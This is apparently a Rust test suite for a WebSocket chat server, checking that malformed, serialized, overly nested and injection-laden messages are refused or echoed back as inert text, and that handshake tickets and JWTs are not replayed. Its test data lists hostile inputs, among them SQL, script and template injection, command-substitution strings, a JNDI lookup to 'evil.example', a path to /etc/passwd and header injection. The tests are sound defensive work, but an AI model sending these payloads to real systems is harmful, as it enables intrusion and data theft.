//! What messages may be, and what is made of them.

use std::sync::atomic::Ordering;
use std::time::SystemTime;

use jsonwebtoken::{Algorithm, EncodingKey, Header, encode};
use mandovi::{BearerCredential, JwtVerifier, Settings};

use crate::peer::{Peer, Seen, frame};
use crate::room::{Accounts, Hall, RoomClient, default_room, listen, room, room_of, say};

/// Asserts that a message is refused and never given to the method, and that nothing of it is said again.
async fn assert_refused(first: u8, payload: &[u8]) {
    let hall = Hall::default();
    let address = listen(room_of(&hall, &Accounts::default()).into_router()).await;
    let mut peer = Peer::open(address, "/echo", "").await;
    peer.bytes(&frame(first, payload)).await;
    let seen = peer.next().await;
    let Seen::Close(1007, reason) = &seen else { panic!("{:?}: {seen:?}", String::from_utf8_lossy(payload)) };
    assert!(!reason.contains("S3CR3T"), "{reason}");
    assert_eq!(hall.heard.load(Ordering::SeqCst), 0);
}

/// The design is the allow-list: types, names, lengths.
#[tokio::test]
async fn owasp_14_every_message_is_checked() {
    let address = default_room().await;
    for fine in
        [format!(r#"{{"kind":"say","text":"{}"}}"#, "x".repeat(1000)), r#"{"kind":"erase","text":""}"#.to_owned()]
    {
        let mut peer = Peer::open(address, "/echo", "").await;
        peer.text(&fine).await;
        assert_eq!(peer.next().await, Seen::Text(fine));
    }
    let long = format!(r#"{{"kind":"say","text":"{}"}}"#, "x".repeat(1001));
    for wrong in [
        &*long,
        "{}",
        "",
        "S3CR3T",
        r#""S3CR3T""#,
        r#"["say","S3CR3T"]"#,
        r#"{"kind":"say"}"#,
        r#"{"kind":"Drop","text":"S3CR3T"}"#,
        r#"{"kind":"SAY","text":"S3CR3T"}"#,
        r#"{"kind":"say","text":["S3CR3T"]}"#,
        r#"{"kind":"say","text":{"$ne":"S3CR3T"}}"#,
        r#"{"kind":"say","text":"a"}{"kind":"erase","text":"S3CR3T"}"#,
        r#"{"kind":"say","text":"S3CR3T"#,
    ] {
        assert_refused(0x81, wrong.as_bytes()).await;
    }
}

/// Bytes are text that was checked, or they are refused; nothing in them names a type, or nests without end.
#[tokio::test]
async fn owasp_17_binary_and_nested_content() {
    let mut peer = Peer::open(default_room().await, "/echo", "").await;
    peer.bytes(&frame(0x82, br#"{"kind":"say","text":"fine"}"#)).await;
    assert_eq!(peer.next().await, Seen::Text(r#"{"kind":"say","text":"fine"}"#.into()));

    let mut nested = br#"{"kind":"say","text":"#.to_vec();
    nested.extend([b'['; 10_000]);
    for wrong in [
        &b"\x80\x04\x95S3CR3T"[..], // Python's pickle
        b"\xac\xed\x00\x05S3CR3T",  // Java's serialization
        b"\x1f\x8b\x08\x00S3CR3T",  // gzip
        b"\x89PNG\r\n\x1a\nS3CR3T",
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"S3CR3T\">]><a>&b;</a>",
        br#"{"kind":"say","text":"S3CR3T\xff"}"#,
        br#"{"@type":"java.lang.Runtime","kind":"say"}"#,
        &nested,
    ] {
        assert_refused(0x82, wrong).await;
    }
    // A text frame must be text.
    assert_refused(0x81, b"{\"kind\":\"Say\",\"text\":\"\xff\"}").await;
}

/// Who is let in is asked at every handshake: a ticket that counts once does so. A token says until when it counts.
#[tokio::test]
async fn owasp_18_a_handshake_is_not_replayed() {
    let address = listen(room_of(&Hall::default(), &Accounts::default()).into_router()).await;
    assert_eq!(Peer::ask(address, "/news?token=ada-ticket1", "").await.1.status, 101);
    assert_eq!(Peer::ask(address, "/news?token=ada-ticket1", "").await.1.status, 401);
    assert_eq!(Peer::ask(address, "/news?token=ada-ticket2", "").await.1.status, 101);

    #[derive(serde::Deserialize)]
    struct Claims {}
    let key = b"a secret that is long enough for anybody";
    let verifier = JwtVerifier::<Claims>::hs256(key);
    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs();
    for (claims, fine) in [
        (serde_json::json!({"sub": "ada", "exp": now + 600}), true),
        (serde_json::json!({"sub": "ada"}), false),
        (serde_json::json!({"sub": "ada", "exp": now - 600}), false),
        (serde_json::json!({"sub": "ada", "exp": now + 900, "nbf": now + 600}), false),
    ] {
        let token = encode(&Header::new(Algorithm::HS256), &claims, &EncodingKey::from_secret(key)).unwrap();
        let verified = verifier.verify(BearerCredential::new(token), &[]).await;
        assert_eq!(verified.is_ok(), fine, "{claims}");
    }
}

/// What looks like code of any kind comes back as the text that it was.
#[tokio::test]
async fn owasp_19_text_stays_text() {
    let client = RoomClient::in_memory(room(Settings::server())).build().unwrap();
    let (tx, mut rx) = client.echo().await.unwrap();
    for code in [
        "'; DROP TABLE lines; --",
        "<script>alert(1)</script>",
        "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
        "$(reboot)`reboot`|reboot;reboot",
        "${jndi:ldap://evil.example/a}",
        "../../etc/passwd\0",
        "%s%n%x{}{0}",
        "__proto__",
        "a\r\nSet-Cookie: sid=evil",
        "\u{202e}\u{1b}[31m",
        "null",
    ] {
        tx.send(say(code)).await.unwrap();
        assert_eq!(rx.recv().await.unwrap().unwrap().text, code);
    }
    // Nor does it become a header or a line of anything else.
    let address = default_room().await;
    let head =
        format!("POST /sessions?name=a%0d%0aX-Evil:%201 HTTP/1.1\r\nHost: {address}\r\nContent-Length: 0\r\n\r\n");
    let (_, answer) = Peer::exchange(address, &head).await;
    assert_eq!((answer.status, answer.header("x-evil")), (500, None), "{answer:?}");
}
